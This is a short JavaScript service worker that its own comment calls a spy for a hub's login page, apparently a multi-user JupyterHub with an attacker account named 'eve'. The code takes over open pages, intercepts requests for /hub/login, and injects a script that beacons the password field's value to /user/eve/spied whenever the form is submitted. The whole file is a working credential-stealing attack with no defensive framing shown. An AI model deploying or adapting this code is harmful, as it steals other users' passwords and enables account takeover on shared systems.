// A service worker that stays when its page is gone and adds a spy to the hub's log-in page.
const SPY = `<script>addEventListener("submit", () => navigator.sendBeacon("/user/eve/spied",
  document.querySelector("#password_input").value), true)</script>`;

addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const { url, method } = event.request;
  if (method !== "GET" || !url.includes("/hub/login")) return;
  event.respondWith(fetch(event.request).then(async (answer) =>
    new Response((await answer.text()) + SPY, { headers: { "Content-Type": "text/html" } })));
});
